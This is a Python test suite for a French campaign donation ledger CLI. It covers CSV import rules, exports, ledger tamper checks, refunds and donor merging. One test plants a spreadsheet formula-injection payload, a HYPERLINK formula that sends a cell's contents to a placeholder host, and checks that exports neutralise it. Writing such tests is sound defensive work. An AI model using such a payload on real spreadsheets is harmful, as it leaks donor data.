"""The treasurer's command line: import, export, verify, cap."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.extensions import db
from app.ledger.models import Donor, LedgerEntry
from tests.factories import tx

# Test data rows are long by nature.
# ruff: noqa: E501
HEADER = ("date;civilite;nom;prenom;adresse;code_postal;commune;pays;nationalite;"
          "personne_physique;montant;mode;reference;recu")
ROWS = [
    "15/11/2026;Mme;Martin;Alice;3 rue des Lilas;72000;Le Mans;France;française;oui;150,00;cheque;CHQ-1;",
    "16/11/2026;M.;Durand;Paul;8 avenue Foch;72100;Le Mans;France;française;oui;5 000,00;cheque;CHQ-2;",
    "17/11/2026;M.;Petit;Louis;1 place du Marché;72000;Le Mans;France;française;oui;200;especes;;",
    "18/11/2026;M.;Boulangerie Petit SARL;Jean;2 rue Haute;72000;Le Mans;France;française;oui;50;virement;VIR-9;",
    "15/08/2026;Mme;Leroy;Anne;5 rue Basse;72000;Le Mans;France;française;oui;100;cheque;CHQ-3;",
    "2026-11-20;Mme;Nguyen;Lan;9 rue Verte;72000;Le Mans;France;française;oui;1234,56;virement;VIR-10;A-0001",
    "21/11/2026;;;;;;;;;;87,40;quete;Réunion du 21/11;",
]


def write_csv(path: Path, rows: list[str], header: str = HEADER, bom: bool = True) -> Path:
    text = "\n".join([header, *rows]) + "\n"
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))
    return path


def entries() -> int:
    return db.session.scalar(select(func.count(LedgerEntry.id))) or 0


def test_import_reports_each_row(runner, demo_site, tmp_path) -> None:
    file = write_csv(tmp_path / "dons.csv", ROWS)
    result = runner.invoke(args=["donations", "import", str(file), "--site", "demo", "--json"])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.output.splitlines()]
    by_row = {line["row"]: line for line in lines}
    assert [line["row"] for line in lines] == list(range(1, 8))
    assert by_row[1]["status"] == "accepted"
    assert by_row[2]["status"] == "refused" and by_row[2]["rules"] == ["DON-2"]
    assert by_row[3]["status"] == "refused" and "DON-4" in by_row[3]["rules"]
    assert by_row[4]["status"] == "warning" and "DON-3" in by_row[4]["rules"]
    assert by_row[5]["status"] == "refused" and "MAND-2" in by_row[5]["rules"]
    assert by_row[6]["status"] == "accepted"
    assert by_row[7]["status"] == "accepted"  # an anonymous quête
    assert all(isinstance(m, str) and m for line in lines for m in line["messages"])
    assert entries() == 4
    again = runner.invoke(args=["donations", "import", str(file), "--site", "demo", "--json"])
    repeat = [json.loads(line) for line in again.output.splitlines()]
    assert {line["row"] for line in repeat if line.get("duplicate")} == {1, 4, 6, 7}
    assert entries() == 4


def test_dry_run_writes_nothing(runner, demo_site, tmp_path) -> None:
    file = write_csv(tmp_path / "dons.csv", ROWS[:1], bom=False)
    result = runner.invoke(args=["donations", "import", str(file), "--site", "demo",
                                 "--dry-run"])
    assert "ligne 1 : accepté" in result.output and "rien n'a été enregistré" in result.output
    assert entries() == 0


def test_cap_counts_rows_of_the_same_file(runner, demo_site, tmp_path) -> None:
    row = "15/11/2026;Mme;Roux;Léa;4 rue Neuve;72000;Le Mans;France;française;oui;2000;cheque;C{n};"
    file = write_csv(tmp_path / "d.csv", [row.format(n=n) for n in range(3)])
    result = runner.invoke(args=["donations", "import", str(file), "--site", "demo", "--json"])
    statuses = [json.loads(line)["status"] for line in result.output.splitlines()]
    assert statuses == ["accepted", "accepted", "refused"]


def test_malformed_files_write_nothing(runner, demo_site, tmp_path) -> None:
    broken_header = write_csv(tmp_path / "h.csv", ROWS, header=HEADER.replace("montant", "somme"))
    result = runner.invoke(args=["donations", "import", str(broken_header), "--site", "demo"])
    assert result.exit_code == 1
    assert "ligne 1" in result.output and "montant" in result.output
    assert "Rien n'a été enregistré" in result.output
    bad_date = write_csv(tmp_path / "d.csv", [ROWS[0], ROWS[5].replace("2026-11-20", "31/02/2026")])
    result = runner.invoke(args=["donations", "import", str(bad_date), "--site", "demo"])
    assert result.exit_code == 1 and "ligne 3" in result.output and "date" in result.output
    latin1 = tmp_path / "l.csv"
    latin1.write_bytes(("\n".join([HEADER, ROWS[0]]) + "\n").encode("latin-1"))
    result = runner.invoke(args=["donations", "import", str(latin1), "--site", "demo"])
    assert result.exit_code == 1 and "UTF-8" in result.output
    comma = tmp_path / "c.csv"
    comma.write_text(HEADER.replace(";", ",") + "\n" + ROWS[0].replace(";", ",").replace(
        "150,00", '"150,00"') + "\n", encoding="utf-8")
    result = runner.invoke(args=["donations", "import", str(comma), "--site", "demo"])
    assert result.exit_code == 0, result.output
    assert entries() == 1


def test_export_formats(runner, demo_site, tmp_path) -> None:
    runner.invoke(args=["donations", "import", str(write_csv(tmp_path / "d.csv", ROWS)),
                        "--site", "demo"])
    out = tmp_path / "donateurs.csv"
    result = runner.invoke(args=["donations", "export", "--site", "demo", "--format", "csv",
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:4] == ["N° de reçu", "Date", "Civilité", "Nom"]
    nguyen = next(r for r in rows if len(r) > 3 and r[3] == "Nguyen")
    assert nguyen[0] == "A-0001" and nguyen[11] == "1234,56" and nguyen[14] == "1234,56"
    assert ["Total général", "1521,96"] in rows
    tsv = tmp_path / "d.tsv"
    runner.invoke(args=["donations", "export", "--site", "demo", "--format", "tsv",
                        "--out", str(tsv)])
    assert "\tNguyen\t" in tsv.read_text(encoding="utf-8")
    xlsx = tmp_path / "d.xlsx"
    runner.invoke(args=["donations", "export", "--site", "demo", "--format", "xlsx",
                        "--out", str(xlsx)])
    sheet = load_workbook(xlsx).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert any(row[3] == "Nguyen" and float(row[11]) == 1234.56 for row in values)


def test_verify_names_the_first_altered_entry(runner, demo_site, tmp_path) -> None:
    runner.invoke(args=["donations", "import", str(write_csv(tmp_path / "d.csv", ROWS)),
                        "--site", "demo"])
    ok = runner.invoke(args=["ledger", "verify"])
    assert ok.exit_code == 0 and "4 écritures" in ok.output and "intègre" in ok.output
    from tests.support.database import tamper

    tamper("UPDATE ledger_entries SET \"on\" = '2026-11-01' WHERE seq = 3")
    bad = runner.invoke(args=["ledger", "verify", "--site", "demo"])
    assert bad.exit_code == 1 and "n° 3" in bad.output and "ALTÉRÉ" in bad.output
    assert db.session.scalar(select(func.count(Donor.id))) >= 3


def test_campaign_cap_prints_formula(runner, demo_site) -> None:
    result = runner.invoke(args=["campaign", "cap", "--site", "demo"])
    assert result.exit_code == 0, result.output
    text = result.output.replace("\u202f", " ").replace("\xa0", " ")
    assert "18 517,40 €" in text and "12 340 hab." in text
    assert "3 703,48 €" in text and "8 795,76 €" in text


def test_unknown_site_is_refused(runner, demo_site, tmp_path) -> None:
    result = runner.invoke(args=["ledger", "verify", "--site", "nope"])
    assert result.exit_code == 1 and "Site inconnu" in result.output
    assert sa is not None


def test_money_awaiting_a_refund_is_out_of_the_receipts_and_blocks_the_filing_export(
        runner, demo_site, tmp_path) -> None:
    from datetime import date

    from app.ledger.entries import record_refund
    from app.ledger.gifts import GiftInput, record_gift
    from tests.factories import identity

    campaign = demo_site.campaign
    tx(record_gift, GiftInput(campaign_id=campaign.id, amount_cents=450_000, on=date(2026, 11, 2),
                          method="cheque", identity=identity(), source_ref="c:1"))
    over = tx(record_gift, GiftInput(campaign_id=campaign.id, amount_cents=30_000,
                                 on=date(2026, 11, 3), method="carte", identity=identity(),
                                 source_ref="stripe:charge:ch_9"), enforce=False)
    out = tmp_path / "d.csv"

    def export(*extra: str) -> tuple[int, str, list[list[str]]]:
        result = runner.invoke(args=["donations", "export", "--site", "demo", "--format",
                                     "csv", "--out", str(out), *extra])
        rows = (list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")),
                                delimiter=";")) if out.exists() else [])
        return result.exit_code, result.output, rows

    code, _, rows = export()
    assert code == 0
    assert ["Total Carte bancaire", "100,00"] in rows  # 300 € received, 200 € over the cap
    assert ["À rembourser, hors recettes (DON-16)", "200,00"] in rows
    assert ["Total général", "4600,00"] in rows
    out.unlink()
    code, output, rows = export("--for-filing")
    assert code == 1 and "DON-16" in output and "200,00 €" in output and not out.exists()
    tx(record_refund, over.entry_id, 20_000, on=date(2026, 11, 5), source_ref="re_9",
                  reason="Excédent DON-16")
    code, _, rows = export("--for-filing")
    assert code == 0 and ["Total général", "4600,00"] in rows
    assert ["Total Carte bancaire", "100,00"] in rows  # 300 € less the 200 € refund
    assert not any(row and row[0].startswith("À rembourser") for row in rows)


def test_export_never_turns_a_donor_field_into_a_formula(runner, demo_site, tmp_path) -> None:
    from datetime import date

    from app.ledger.gifts import GiftInput, record_gift
    from tests.factories import identity

    payload = '=HYPERLINK("http://x/?"&B2,"ok")'
    tx(record_gift, GiftInput(campaign_id=demo_site.campaign.id, amount_cents=5_000,
                          on=date(2026, 11, 2), method="cheque",
                          identity=identity(payload, "@SUM(A1)"), source_ref="c:f"))
    out = tmp_path / "d.csv"
    runner.invoke(args=["donations", "export", "--site", "demo", "--format", "csv",
                        "--out", str(out)])
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if len(r) > 4 and payload in r[3])
    assert row[3] == "'" + payload and row[4] == "'@SUM(A1)" and row[11] == "50,00"
    xlsx = tmp_path / "d.xlsx"
    runner.invoke(args=["donations", "export", "--site", "demo", "--format", "xlsx",
                        "--out", str(xlsx)])
    cells = [c for r in load_workbook(xlsx).active.iter_rows() for c in r
             if isinstance(c.value, str) and payload in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_treasurer_sees_likely_duplicates_and_merges_or_keeps_them_apart(runner, demo_site,
                                                                        users) -> None:
    from datetime import date

    from app.ledger.gifts import GiftInput, record_gift
    from tests.factories import identity

    def give(amount: int, ref: str, **who: str) -> int:
        outcome = tx(record_gift, GiftInput(campaign_id=demo_site.campaign.id, amount_cents=amount,
                                        on=date(2026, 11, 2), method="cheque",
                                        identity=identity(**who), source_ref=ref))
        assert outcome.status == "accepted"
        return int(outcome.donor_id)

    first = give(300_000, "c:1", nom="Dupont", prenom="Jean")
    second = give(300_000, "c:2", nom="Dupond", prenom="Jean")  # one letter apart
    lookalike_a = give(10_000, "c:3", nom="Martin", prenom="Paul", adresse="1 rue Haute")
    lookalike_b = give(10_000, "c:4", nom="Martin", prenom="Paul", adresse="9 rue Basse",
                       code_postal="72100")
    listing = runner.invoke(args=["donors", "duplicates", "--site", "demo"])
    assert listing.exit_code == 0, listing.output
    assert f"fiche {first} : Jean Dupont" in listing.output
    assert f"fiche {lookalike_b} : Paul Martin" in listing.output
    refused = runner.invoke(args=["donors", "merge", str(first), str(second), "--site", "demo",
                                  "--by", "editor@example.org", "--reason", "même personne"])
    assert refused.exit_code == 1 and "trésorier" in refused.output
    merged = runner.invoke(args=["donors", "merge", str(first), str(second), "--site", "demo",
                                 "--by", "treasurer@example.org", "--reason", "même personne"])
    assert merged.exit_code == 0, merged.output
    assert "6 000,00" in merged.output.replace("\u202f", " ").replace("\xa0", " ")
    assert "1 400,00" in merged.output.replace("\u202f", " ").replace("\xa0", " ")  # DON-16
    apart = runner.invoke(args=["donors", "keep-apart", str(lookalike_a), str(lookalike_b),
                                "--site", "demo", "--by", "treasurer@example.org",
                                "--reason", "père et fils"])
    assert apart.exit_code == 0, apart.output
    again = runner.invoke(args=["donors", "duplicates", "--site", "demo"])
    assert again.output.startswith("Aucun doublon probable."), again.output
